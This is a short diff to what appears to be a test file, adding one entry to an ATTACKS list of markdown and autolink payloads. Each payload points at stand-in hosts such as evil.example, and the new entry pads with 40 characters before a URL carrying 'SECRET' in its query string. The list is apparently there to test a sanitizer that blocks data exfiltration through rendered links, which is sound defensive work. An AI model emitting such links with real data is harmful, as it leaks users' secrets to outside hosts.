@@ -37,6 +37,7 @@ ATTACKS = [
     "[x][a]\n\n[a]: evil.example/SECRET 'title'",
     "> [a]:\n> //evil.example",
     f"<{EVIL}>",
+    "a" * 40 + "https://evil.quest/?q=SECRET",
     f"<{EVIL}|docs.example>",
     "<www.evil.example>",
     "<mailto:thief@evil.example|write us>",
